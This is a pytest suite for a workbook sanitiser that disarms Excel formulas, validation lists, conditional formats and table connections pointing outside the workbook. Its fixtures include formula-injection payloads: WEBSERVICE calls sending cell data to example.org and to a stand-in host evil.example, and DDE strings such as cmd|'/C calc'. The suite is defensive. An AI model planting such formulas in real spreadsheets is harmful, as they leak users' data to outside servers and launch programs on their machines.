"""What a marked copy may still compute: nothing that leads out of its own cells, wherever in a workbook it stands."""

import io
import zipfile

import openpyxl
import pytest
from faulty_sheets import GOOD, bases, row
from office_kit import changed, filled
from openpyxl.formatting.rule import CellIsRule, ColorScaleRule, DataBarRule, FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.table import Table
from test_marking import marked

import kepu_core as kepu
from kepu_office.disarming import is_plain_formula

OUT = [
    'WEBSERVICE("http://example.org/?"&A1)', 'HYPERLINK("http://example.org",A1)', "[1]Sheet1!A1", "'C:\\x\\[b.xlsx]Sheet1'!A1",
    "cmd|'/C calc'!A0", "'cmd|/C calc'!A1", 'INDIRECT(CHAR(91)&"b.xlsx]S!A1")', "SECRET", "SUM(SECRET)", "科普教育基地!SECRET", "SECRET:A1",
    "RTD(A1,A1,A1)", '_xlfn.WEBSERVICE("x")', "EXEC(A1)", "Other!A1", 'IMPORTDATA("http://example.org")', 'CUBEVALUE("x",A1)', "A1:SECRET(1)",
    "T[列]", "SECRET(1)", "-SECRET%", '"x"&SECRET', "ENCODEURL(A1)",
]  # fmt: skip
INSIDE = [
    "A1+1", "SUM($A$1:B$2,C:C,1:3)", "科普教育基地!A1", "'科普教育基地'!$A$1:$B$2", 'IF(A1>1,"[x]|http://x","y")', "_xlfn.IFS(A1>1,2,TRUE,3)",
    "TRUE", "#REF!+1", "{1,2}", "1.5", '"甲,乙"', "VLOOKUP(A1,A:B,2,FALSE)",
]  # fmt: skip


@pytest.mark.parametrize("formula", OUT)
def test_formulas_that_lead_out(formula):
    """Other files and programs, servers, names that are dropped, and functions that are not known to be plain."""
    assert not is_plain_formula(formula, {"科普教育基地", "cmd|/c calc"})
    assert not is_plain_formula(f"={formula}", {"科普教育基地"})


@pytest.mark.parametrize("formula", INSIDE)
def test_formulas_that_stay(formula):
    """They ask nothing but cells of the workbook."""
    assert is_plain_formula(formula, {"科普教育基地"})


@pytest.mark.parametrize("formula", [f for f in OUT if "'" not in f])
def test_a_cell_that_leads_out_becomes_text(formula):
    """It shows its formula, and computes nothing."""

    def prepare(made):
        made.worksheets[0]["H2"] = f"={formula}"
        made.worksheets[0]["H3"] = "=SUM(D2:D3)"
        made.defined_names["SECRET"] = DefinedName("SECRET", attr_text='WEBSERVICE("http://example.org")')

    sheet = marked(bases(row(c1="飞船"), prepare=prepare)).worksheets[1]
    assert (sheet["H2"].data_type, sheet["H3"].data_type) == ("s", "f")


@pytest.mark.parametrize("formula", OUT)
def test_rules_that_lead_out_are_dropped(formula):
    """Drop-down lists, limits of what may be entered, conditional formats and their scales; others stay."""

    def prepare(made):
        sheet = made.worksheets[0]
        for number, told in enumerate([{"type": "list", "formula1": formula}, {"type": "custom", "formula1": formula},
                                       {"type": "whole", "operator": "between", "formula1": "1", "formula2": formula},
                                       {"type": "list", "formula1": '"甲,乙"'}, {"type": "list", "formula1": "$A$1:$A$2"}]):  # fmt: skip
            sheet.add_data_validation(DataValidation(sqref=f"H{number + 1}", **told))
        add = sheet.conditional_formatting.add
        add("D1:D9", FormulaRule(formula=[formula]))
        add("D1:D9", CellIsRule(operator="between", formula=["1", formula]))
        add("D1:D9", DataBarRule(start_type="formula", start_value=formula, end_type="max", color="FF0000"))
        add(
            "D1:D9",
            ColorScaleRule(
                start_type="min", start_color="FF0000", end_type="formula", end_value=formula, end_color="00FF00"
            ),
        )
        add("D1:D9", FormulaRule(formula=["$D1>3"]))
        add(
            "E1:E9",
            ColorScaleRule(start_type="min", start_color="FF0000", end_type="num", end_value=3, end_color="00FF00"),
        )

    sheet = marked(bases(GOOD, row(c0="乙馆", c1="飞船"), prepare=prepare)).worksheets[1]
    assert [rule.formula1 for rule in sheet.data_validations.dataValidation] == ['"甲,乙"', "$A$1:$A$2"]
    assert [(str(area.sqref), [r.formula for r in area.rules]) for area in sheet.conditional_formatting] == [
        ("D1:D9", [["$D1>3"]]),
        ("E1:E9", [[]]),
    ]


def test_tables_compute_and_fetch_nothing():
    """A table stays, without the formulas of its columns and without its connection."""

    def prepare(made):
        table = Table(displayName="T", ref="A1:B2")
        made.worksheets[0].add_table(table)
        table._initialise_columns()
        for column, name in zip(table.tableColumns, made.worksheets[0][1], strict=False):
            column.name = name.value

    data = bases(row(c1="飞船"), prepare=prepare)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/tables/table1.xml").decode()
    inner = '<calculatedColumnFormula>WEBSERVICE("http://example.org")</calculatedColumnFormula>'
    start = xml.index("<tableColumn ")
    end = xml.index("/>", start)
    xml = f"{xml[:end]}>{inner}</tableColumn>{xml[end + 2 :]}".replace(
        "<table ", '<table tableType="queryTable" connectionId="1" ', 1
    )
    (table,) = marked(changed(data, {"xl/tables/table1.xml": xml})).worksheets[1].tables.values()
    assert (table.ref, table.connectionId, table.tableType) == ("A1:B2", None, None)
    assert not any(c.calculatedColumnFormula or c.totalsRowFormula for c in table.tableColumns)


def test_no_copy_holds_what_leads_out(tmp_path):
    """Looked for in the bytes of all its parts."""

    def prepare(made):
        sheet = made.worksheets[0]
        sheet.add_data_validation(DataValidation(type="list", formula1="SECRET", sqref="H1"))
        sheet.conditional_formatting.add("D1:D9", FormulaRule(formula=['WEBSERVICE("http://evil.example")']))
        made.defined_names["SECRET"] = DefinedName("SECRET", attr_text='WEBSERVICE("http://evil.example")')

    data = bases(row(c1="飞船"), prepare=prepare)
    out = io.BytesIO()
    marked(data).save(out)
    with zipfile.ZipFile(io.BytesIO(data)) as before, zipfile.ZipFile(io.BytesIO(out.getvalue())) as after:
        assert any(b"evil.example" in before.read(name) for name in before.namelist())
        assert not any(
            b"evil.example" in after.read(name) or b"SECRET" in after.read(name) for name in after.namelist()
        )


def test_the_lists_of_our_own_templates_stay():
    """They lead to a hidden sheet of the same workbook."""
    data = filled([kepu.Base(id="a", name="甲馆", kind="venue", region="440300")])
    before = openpyxl.load_workbook(io.BytesIO(data))
    copy = marked(data)
    for sheet in before.worksheets:
        kept = copy[sheet.title].data_validations.dataValidation
        assert len(kept) == len(sheet.data_validations.dataValidation), sheet.title
    assert any(s.data_validations.dataValidation for s in before.worksheets)
